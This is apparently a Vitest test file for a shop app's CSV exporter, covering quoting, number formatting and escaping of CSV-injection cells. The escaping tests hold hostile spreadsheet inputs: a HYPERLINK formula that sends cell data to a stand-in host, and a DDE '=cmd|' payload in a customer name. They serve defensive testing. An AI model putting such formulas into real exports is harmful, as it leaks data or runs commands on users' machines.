import { describe, expect, it } from 'vitest';
import { buildBill, buildCustomer } from '../../../tests/support/builders';
import { RESOURCE_DATA, withDerived } from '../../api/resourceData';
import { createI18nProvider } from '../../i18n/i18nProvider';
import { accounts } from '../../resources/accounts';
import { bills } from '../../resources/bills';
import { rechargeHistory } from '../../resources/recharges/history';
import type { ResourceDeclaration } from '../../resources/types';
import { columnLabel } from './columnRenderers';
import { csvField, csvText, toCsv } from './exporter';

const { translate } = createI18nProvider();
const csvOf = (resource: ResourceDeclaration<any>, records: object[]) =>
  csvText(resource.name, [...resource.columns, ...(resource.list?.exportColumns ?? [])], records, translate, (column) => columnLabel(resource.name, column.kind, column.source));

describe('CSV cells a spreadsheet would run (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.lk?"&D2&E2,"Invoice")', `"'=HYPERLINK(""http://x.lk?""&D2&E2,""Invoice"")"`],
    ['+94771234567', "'+94771234567"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
  ])('shows %j as text', (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });

  it('keeps plain numbers, negative amounts among them, as numbers a column sums', () => {
    expect(toCsv(['Balance'], [['-1000.00'], ['250'], ['0.9650']])).toBe('Balance\r\n-1000.00\r\n250\r\n0.9650');
  });

  it('neutralises a formula in a real export: a customer address in the bills CSV', () => {
    const bill = buildBill(buildCustomer({ firstName: '=cmd|', lastName: "'/c calc'!A0" }), [{ name: '@Earphones', quantity: 1, billedPrice: 850 }]);
    const [, row] = csvOf(bills, [withDerived(RESOURCE_DATA.bills, { ...bill, id: bill._id })]).split('\r\n');
    expect(row.startsWith("'=cmd|")).toBe(true);
    expect(row).toContain("'@Earphones");
  });
});

describe('CSV (RFC 4180)', () => {
  it('writes a header line and one line per row, CRLF-separated', () => {
    expect(toCsv(['Name', 'Total'], [['Kasun Perera', '1500.00'], ['Nimal', '20.50']])).toBe('Name,Total\r\nKasun Perera,1500.00\r\nNimal,20.50');
  });

  it('quotes fields with commas, quotes or line breaks', () => {
    expect(toCsv(['Address'], [['12, Galle Road'], ['The "Dish" Shop'], ['line\nbreak']])).toBe(
      'Address\r\n"12, Galle Road"\r\n"The ""Dish"" Shop"\r\n"line\nbreak"',
    );
  });
});

describe('a list’s CSV carries numbers and quantities a spreadsheet can sum', () => {

  it('bills: the bill’s number, each item with its quantity, and amounts as plain numbers', () => {
    const bill = {
      ...buildBill(buildCustomer({ firstName: 'Kasun', lastName: 'Perera', phoneNumber: '0771234567', cardNumber: 'DTV-1' }), [
        { name: 'HDMI Cable, 1.5m', quantity: 2, billedPrice: 1250.5 },
        { name: 'Charger', quantity: 1, billedPrice: 12_500 },
      ]),
      number: 123,
      createdAt: '2026-03-12T04:30:00.000Z',
    };
    // As a list read hands it over: with its figures net of returns (none here).
    expect(csvOf(bills, [withDerived(RESOURCE_DATA.bills, { ...bill, id: bill._id })]).split('\r\n')).toEqual([
      'Customer,Phone Number,Card Number,Products,Total,Profit,Created By,Date,Bill No.,Items,Item count,Pricing',
      `Kasun Perera,0771234567,DTV-1,"HDMI Cable, 1.5m, Charger",15001.00,6000.40,Staff Demo,12 Mar 2026 10:00 AM,B-000123,"HDMI Cable, 1.5m x 2; Charger x 1",3,`,
    ]);
  });

  it('sales: a unit cost keeps its four decimals; a blank amount stays blank', () => {
    const columns = rechargeHistory.columns.filter((column) => ['soldPrice', 'unitCost', 'profit'].includes(column.source));
    const sale = { soldPrice: 1234.5, unitCost: 0.965, profit: undefined };
    expect(csvText(rechargeHistory.name, columns, [sale], translate, (column) => columnLabel(rechargeHistory.name, column.kind, column.source))).toBe(
      'Sold Price,Unit Cost,Profit\r\n1234.50,0.9650,',
    );
  });

  it('who owes what: balances as numbers, the day owed since and the days as a count', () => {
    const debtor = { name: 'Nimal Silva', partyType: 'agent', phoneNumber: '0712223334', balance: 10_250.75, creditLimit: 20_000, oldestUnpaidAt: '2026-03-01T04:30:00.000Z' };
    const [header, row] = csvOf(accounts, [debtor]).split('\r\n');
    expect(header).toBe('Name,Customer or agent,Phone Number,Owes,Credit limit,Owed since,Days owed');
    expect(row).toMatch(/^Nimal Silva,Agent,0712223334,10250.75,20000.00,01 Mar 2026,\d+$/);
  });

  it('who owes what: a balance the shop owes stays signed, so the column sums; no day owed since, no days', () => {
    const credited = { name: 'Ruwan Jayasinghe', partyType: 'customer', phoneNumber: '0771234567', balance: -1000, creditLimit: 0, oldestUnpaidAt: null };
    expect(csvOf(accounts, [credited]).split('\r\n')[1]).toBe('Ruwan Jayasinghe,Customer,0771234567,-1000.00,0.00,,');
  });
});
